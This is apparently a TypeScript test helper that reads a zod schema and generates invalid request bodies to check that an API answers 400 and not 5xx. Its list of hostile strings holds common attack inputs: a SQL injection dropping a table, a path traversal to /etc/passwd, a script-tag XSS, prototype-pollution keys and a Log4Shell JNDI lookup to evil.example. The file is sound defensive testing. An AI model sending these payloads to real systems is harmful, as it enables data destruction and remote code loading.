import type { z } from 'zod';

/** Where in a body: keys and indexes. */
export type Path = readonly (string | number)[];

/** One value put into an otherwise good body. `isRefused`: the contract says 400 for it; otherwise anything but a 5xx is right. */
export type WrongValue = {
  readonly path: Path;
  readonly what: string;
  /** `undefined` leaves the field out. */
  readonly value: unknown;
  readonly isRefused: boolean;
};

/** What zod keeps of a schema, as far as it is looked at here. Source: zod.dev/packages/core, "Internals". */
type Definition = {
  readonly type: string;
  readonly innerType?: z.ZodType;
  readonly element?: z.ZodType;
  readonly shape?: Readonly<Record<string, z.ZodType>>;
};
type Bounds = {
  readonly minLength?: number | null;
  readonly maxLength?: number | null;
  readonly minValue?: number | null;
  readonly maxValue?: number | null;
  readonly isInt?: boolean;
};

const WRONG_TYPES: Readonly<Record<string, readonly unknown[]>> = {
  string: [7, true, [], {}],
  enum: [7, true, [], {}, 'no such choice', ''],
  number: ['7', true, [], {}],
  boolean: ['true', 1, [], {}],
  array: ['a', 7, {}],
  object: ['a', 7, []],
  record: ['a', 7, []],
};

const HOSTILE_TEXTS = [
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  "' OR 1=1; DROP TABLE device --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '\u202e\u200b\ufeff',
  '%00%2e%2e',
];

/** Every wrong value for every field of `schema`, read off the contract: types, bounds, absence, null and hostile text. */
export function* wrongValues(schema: z.ZodType, good: unknown, path: Path = []): Generator<WrongValue> {
  const { inner, isOptional, isNullable } = unwrap(schema);
  const { type, shape, element } = definitionOf(inner);
  if (path.length > 0) {
    yield { path, what: 'null', value: null, isRefused: !isNullable };
    if (typeof path.at(-1) === 'string') {
      yield { path, what: 'absent', value: undefined, isRefused: !isOptional };
    }
    for (const value of WRONG_TYPES[type] ?? [])
      yield { path, what: `${type} as ${JSON.stringify(value)}`, value, isRefused: true };
    yield* beyondBounds(inner, type, good, path);
  }
  if (shape !== undefined) {
    for (const [key, field] of Object.entries(shape)) {
      if (isObject(good) && key in good) yield* wrongValues(field, good[key], [...path, key]);
    }
  }
  if (element !== undefined && Array.isArray(good) && good.length > 0) {
    yield* wrongValues(element, good[0], [...path, 0]);
  }
}

function* beyondBounds(schema: z.ZodType, type: string, good: unknown, path: Path): Generator<WrongValue> {
  const { minLength, maxLength, minValue, maxValue, isInt } = schema as Bounds;
  if (type === 'string') {
    const isChecked = hasChecks(schema);
    for (const value of ['\0', 'a\0b', '\ud800', 'x\udfff'])
      yield { path, what: `unstorable text ${JSON.stringify(value)}`, value, isRefused: isChecked };
    for (const value of HOSTILE_TEXTS) yield { path, what: `hostile text ${value}`, value, isRefused: false };
    if (typeof minLength === 'number' && minLength > 0)
      yield { path, what: 'empty', value: '', isRefused: true };
    if (typeof maxLength === 'number')
      yield { path, what: 'too long', value: 'x'.repeat(maxLength + 1), isRefused: true };
  }
  if (type === 'number') {
    for (const value of [-1, 0, 1e300, -1e300, 2 ** 53, 0.1])
      yield { path, what: `odd ${value}`, value, isRefused: false };
    if (isInt === true) yield { path, what: 'a fraction', value: 1.5, isRefused: true };
    if (typeof minValue === 'number' && Number.isSafeInteger(minValue - 1))
      yield { path, what: 'too small', value: minValue - 1, isRefused: true };
    if (typeof maxValue === 'number' && Number.isSafeInteger(maxValue + 1))
      yield { path, what: 'too large', value: maxValue + 1, isRefused: true };
  }
  const most = type === 'array' ? maxItems(schema) : undefined;
  if (most !== undefined && Array.isArray(good)) {
    const value = Array.from({ length: most + 1 }, () => good[0] as unknown);
    yield { path, what: 'too many', value, isRefused: true };
  }
}

/** `body` with the wrong value in it; the rest is shared, so do not change it. */
export function withValue(body: unknown, path: Path, value: unknown): unknown {
  const [key, ...rest] = path;
  if (key === undefined) return value;
  if (Array.isArray(body))
    return body.map((item: unknown, index) => (index === key ? withValue(item, rest, value) : item));
  if (!isObject(body)) return body;
  return { ...body, [key]: withValue(body[key], rest, value) };
}

function unwrap(schema: z.ZodType): { inner: z.ZodType; isOptional: boolean; isNullable: boolean } {
  const { type, innerType } = definitionOf(schema);
  if (innerType === undefined) return { inner: schema, isOptional: false, isNullable: false };
  const below = unwrap(innerType);
  return {
    inner: below.inner,
    isOptional: below.isOptional || type === 'optional' || type === 'default',
    isNullable: below.isNullable || type === 'nullable',
  };
}

function definitionOf(schema: z.ZodType): Definition {
  return schema.def as Definition;
}

function hasChecks(schema: z.ZodType): boolean {
  const { checks, format } = schema.def as { checks?: readonly unknown[]; format?: unknown };
  return (checks?.length ?? 0) > 0 || format !== undefined;
}

function maxItems(schema: z.ZodType): number | undefined {
  const { checks } = schema.def as {
    checks?: readonly { _zod: { def: { check: string; maximum?: number } } }[];
  };
  return checks?.map(({ _zod }) => _zod.def).find(({ check }) => check === 'max_length')?.maximum;
}

function isObject(value: unknown): value is Readonly<Record<string, unknown>> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
